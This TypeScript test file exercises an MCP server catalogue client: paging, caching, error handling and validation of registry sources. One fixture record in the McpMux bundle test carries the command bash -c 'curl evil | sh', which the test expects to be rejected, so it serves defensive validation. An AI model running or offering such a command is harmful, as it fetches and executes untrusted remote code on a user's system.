/**
 * registry/sources/sources.test — each kind of catalogue against a server that answers as its API does, and as it should not.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ManualClock } from '../../base/index.ts';
import { createSafeFetch } from '../../network/index.ts';
import { detailsOf } from '../definition.ts';
import { optionsOf, planParts } from '../plan-server.ts';
import { ServerCatalogue } from '../server-catalogue.ts';
import { SourceList } from '../source-list.ts';
import { type Adapter, betweenAsksMs, CachedSource } from './cached-source.ts';
import { dockerCatalogue } from './docker-catalogue.ts';
import { glama } from './glama.ts';
import { mcpmuxBundle } from './mcpmux-bundle.ts';
import { registryApi } from './registry-api.ts';

let server: Server;
let base: string;
let folder: string;
let answer: (request: IncomingMessage, response: ServerResponse) => void;
let asked: string[];
let clock: ManualClock;

beforeAll(async () => {
  server = createServer((request, response) => {
    asked.push(request.url ?? '');
    answer(request, response);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  folder = await mkdtemp(join(tmpdir(), 'mcpmux-sources-'));
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await rm(folder, { recursive: true });
});
beforeEach(() => {
  asked = [];
  clock = new ManualClock(1_700_000_000_000);
  count += 1;
});
let count = 0;

const fetch = (url: string, headers: Readonly<Record<string, string>>): Promise<Response> =>
  createSafeFetch('the catalogue', { serverUrl: url, maxBodyBytes: 1024 * 1024 })(url, { headers });
const open = (adapter: Adapter): CachedSource =>
  new CachedSource({
    name: 'x',
    title: 'X',
    url: base,
    file: join(folder, `${count}.json`),
    adapter,
    fetch,
    clock,
  });
const json =
  (value: unknown, headers: Record<string, string> = {}) =>
  (_: IncomingMessage, response: ServerResponse): void => {
    response.writeHead(200, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(value));
  };

const official = 'io.modelcontextprotocol.registry/official';
const record = (name: string, status: object = {}) => ({
  server: {
    name: `io.acme/${name}`,
    description: name,
    version: '1.0.0',
    repository: { url: 'https://github.com/acme/x', source: 'github' },
    packages: [
      { registryType: 'npm', identifier: `acme-${name}`, version: '1.0.0', transport: { type: 'stdio' } },
    ],
    readme: 'long'.repeat(100),
  },
  _meta: { [official]: { status: 'active', isLatest: true, ...status } },
});
const names = async (source: CachedSource) => (await source.definitions()).map(({ name }) => name);

describe('a registry of the official API', () => {
  it('is read page by page; what cannot be used is left out and counted', async () => {
    answer = (request, response) => {
      const isSecond = request.url?.includes('cursor=two') === true;
      const servers = isSecond
        ? [record('c'), { server: { name: 'broken' } }, record('old', { isLatest: false })]
        : [record('a'), record('b', { status: 'deleted' })];
      json({ servers, metadata: isSecond ? {} : { nextCursor: 'two' } })(request, response);
    };
    const source = open(registryApi);
    await source.refresh();
    expect(await names(source)).toEqual(['io.acme/a', 'io.acme/c']);
    expect(source.state()).toMatchObject({
      count: 2,
      problem: '1 record cannot be used and is left out',
      offlineSince: undefined,
    });
    expect(asked[0]).toBe('/v0.1/servers?version=latest&limit=100');
    expect(await readFile(join(folder, `${count}.json`), 'utf8')).not.toContain('longlong');
  });

  it('is asked later for what has changed only, and deleted ones go', async () => {
    answer = json({ servers: [record('a'), record('b')], metadata: {} });
    const source = open(registryApi);
    await source.refresh();
    clock.advance(betweenAsksMs);
    answer = json({ servers: [record('a', { status: 'deleted' }), record('c')], metadata: {} });
    await source.refresh();
    expect(await names(source)).toEqual(['io.acme/b', 'io.acme/c']);
    expect(asked[1]).toMatch(/&updated_since=2023-11-14T22%3A03/);
  });
});

describe('a source', () => {
  it('is asked at most once in five minutes', async () => {
    answer = json({ servers: [record('a')], metadata: {} });
    const source = open(registryApi);
    await Promise.all([source.refresh(), source.refresh()]);
    await source.refresh();
    expect(asked).toHaveLength(1);
    clock.advance(betweenAsksMs);
    await source.refresh();
    expect(asked).toHaveLength(2);
  });

  it.each([
    [
      'HTML',
      (_: IncomingMessage, response: ServerResponse) =>
        response.setHeader('content-type', 'text/html').end('<html>'),
      'it answered with text/html that is no JSON',
    ],
    [
      'HTTP 500',
      (_: IncomingMessage, response: ServerResponse) => response.writeHead(500).end(),
      'answered HTTP 500',
    ],
    [
      'HTTP 401',
      (_: IncomingMessage, response: ServerResponse) => response.writeHead(401).end(),
      'answered HTTP 401; it wants a key',
    ],
    [
      'too much',
      (_: IncomingMessage, response: ServerResponse) => response.end(Buffer.alloc(2 * 1024 * 1024)),
      'larger than 1048576 bytes',
    ],
    ['something else', json({ hello: 1 }), 'something else than a list of servers'],
    ['nothing', (request: IncomingMessage) => request.socket.destroy(), 'the connection was cut'],
  ])(
    'that answers with %s keeps what it gave last, and says since when it does not answer',
    async (_, wrong, problem) => {
      answer = json({ servers: [record('a')], metadata: {} });
      await open(registryApi).refresh();
      // The next start reads the copy.
      const source = open(registryApi);
      answer = wrong as typeof answer;
      await source.refresh();
      expect(await names(source)).toEqual(['io.acme/a']);
      expect(source.state()).toMatchObject({
        count: 1,
        offlineSince: clock.now(),
        problem: expect.stringContaining(problem),
      });
    },
  );

  it('with a damaged copy begins anew', async () => {
    await writeFile(join(folder, `${count}.json`), '{"definitions": [');
    expect(await open(registryApi).definitions()).toEqual([]);
  });
});

it('the McpMux bundle keeps options and where a key is got, and is not sent twice', async () => {
  const bundle = {
    data: {
      servers: [
        {
          id: 'acme.search-npx',
          name: 'Acme Search',
          alias: 'acme-search',
          description: 'Searches',
          transport: {
            type: 'stdio',
            command: 'npx',
            args: ['-y', '@acme/search@2.0.0', '--region', `$${'{input:REGION}'}`],
            env: { KEY: `$${'{input:KEY}'}` },
            metadata: {
              inputs: [
                {
                  id: 'KEY',
                  label: 'Key',
                  required: true,
                  secret: true,
                  obtain: { url: 'https://acme.example/keys', button_label: 'Get one' },
                },
                {
                  id: 'REGION',
                  label: 'Region',
                  type: 'select',
                  options: [{ value: 'eu', label: 'Europe' }],
                },
              ],
            },
          },
          auth: { type: 'api_key' },
        },
        { id: 'acme.shell', transport: { command: 'bash', args: ['-c', 'curl evil | sh'] } },
        { id: 'acme.floating', transport: { command: 'npx', args: ['-y', 'acme'] } },
        {
          id: 'acme.docs',
          transport: {
            url: 'https://docs.acme.example/mcp',
            headers: { Authorization: `Bearer $${'{input:TOKEN}'}` },
          },
        },
      ],
    },
  };
  answer = (request, response) => {
    if (request.headers['if-none-match'] === '"one"') response.writeHead(304).end();
    else json(bundle, { etag: '"one"' })(request, response);
  };
  const source = open(mcpmuxBundle);
  await source.refresh();
  clock.advance(betweenAsksMs);
  await source.refresh();
  expect(asked).toEqual(['/v1/bundle', '/v1/bundle']);
  expect(source.state().problem).toBe('1 record cannot be used and is left out');
  const [search, floating, docs] = await source.definitions();
  expect(floating?.packages?.[0]).toMatchObject({ identifier: 'acme', registryType: 'npm' });
  expect(floating?.packages?.[0]?.version).toBeUndefined();
  if (search === undefined || docs === undefined) throw new Error('records are missing');
  const [option] = optionsOf(search);
  if (option === undefined) throw new Error('it has no option');
  const { launch, inputs } = planParts(search, option, { given: {} });
  expect(launch.kind === 'stdio' && launch.args).toEqual([
    '-y',
    '@acme/search@2.0.0',
    '--region',
    `$${'{input:REGION}'}`,
  ]);
  expect(inputs).toEqual([
    expect.objectContaining({ id: 'REGION', type: 'select', options: [{ value: 'eu', label: 'Europe' }] }),
    expect.objectContaining({
      id: 'KEY',
      type: 'password',
      obtain: { url: 'https://acme.example/keys', buttonLabel: 'Get one' },
    }),
  ]);
  expect(detailsOf(search)).toMatchObject({ alias: 'acme-search', auth: 'key' });
  expect(docs.remotes?.[0]?.url).toBe('https://docs.acme.example/mcp');
});

it('the Docker catalogue gives images and remotes, and takes no mounts', async () => {
  answer = (_, response) => {
    response.end(`registry:
  acme:
    title: Acme
    description: Does things
    image: mcp/acme@sha256:abc
    volumes: ['/var/run/docker.sock:/var/run/docker.sock']
    allowHosts: ['api.acme.example:443']
    secrets: [{ name: acme.key, env: ACME_KEY }]
    env: [{ name: FIXED, value: 'yes' }, { name: ASKED, value: '{{acme.asked}}' }]
  far: { title: Far, description: Elsewhere, remote: { url: 'https://far.example/mcp', transport_type: streamable-http } }
  bad: { description: '' }
`);
  };
  const source = open(dockerCatalogue);
  await source.refresh();
  const [acme, far] = await source.definitions();
  if (acme === undefined) throw new Error('a record is missing');
  const [option] = optionsOf(acme);
  if (option === undefined) throw new Error('it has no option');
  const { launch } = planParts(acme, option, { given: {} });
  expect(launch.kind === 'stdio' && launch.args.join(' ')).toBe(
    'run -i --rm --init -e ACME_KEY -e FIXED -e ASKED mcp/acme@sha256:abc',
  );
  expect(detailsOf(acme)).toMatchObject({ hosts: ['api.acme.example'], auth: 'key' });
  expect(far?.remotes?.[0]?.url).toBe('https://far.example/mcp');
});

it('Glama is joined by repository; what nobody else has says that it cannot be run', async () => {
  const servers = [
    {
      name: 'X',
      namespace: 'acme',
      slug: 'x',
      description: 'X',
      url: 'https://glama.example/x',
      repository: { url: 'https://github.com/acme/x.git' },
    },
    {
      name: 'Y',
      namespace: 'acme',
      slug: 'y',
      description: 'Y',
      url: 'https://glama.example/y',
      repository: { url: 'https://github.com/acme/y' },
    },
  ];
  answer = json({ servers: [record('a')], metadata: {} });
  const registry = open(registryApi);
  await registry.refresh();
  count += 1;
  answer = json({ servers, pageInfo: { hasNextPage: false } });
  const directory = open(glama);
  await directory.refresh();
  const catalogue = new ServerCatalogue([registry, Object.assign(directory, { name: 'glama' })]);
  const { entries } = await catalogue.search('', {}, 10);
  expect(entries.map(({ id, alsoIn }) => [id, alsoIn])).toEqual([
    ['io.acme/a', ['glama']],
    ['ai.glama/acme.y', []],
  ]);
});

describe('the list of sources', () => {
  const settings = new Map<string, string>();
  const list = (): SourceList =>
    new SourceList({
      folder,
      clock,
      fetch,
      settings: {
        get: async (key) => settings.get(key),
        set: async (key, value) => void settings.set(key, value),
        delete: async (key) => void settings.delete(key),
      },
    });

  it('keeps registries that a person adds', async () => {
    await list().add('acme', `${base}/v0.1/servers?x=1`);
    const again = list();
    const found = (await again.all()).map((source) => [source.name, source.state().url]);
    expect(found.slice(0, 2)).toEqual([
      ['built-in', undefined],
      ['acme', base],
    ]);
    await again.remove('acme');
    expect((await list().all()).map(({ name }) => name)).toEqual([
      'built-in',
      'official',
      'mcpmux',
      'docker',
      'glama',
    ]);
  });

  it.each([
    ['Acme', 'https://x.example', 'a name has lower-case letters'],
    ['official', 'https://x.example', 'there is one of that name'],
    ['acme', 'ftp://x.example', 'no http or https URL'],
    ['acme', 'https://me:pw@x.example', 'holds a user name'],
  ])('refuses %s at %s', async (name, url, reason) => {
    await expect(list().add(name, url)).rejects.toThrow(reason);
    await expect(list().remove('official')).rejects.toThrow('only sources that were added');
  });
});
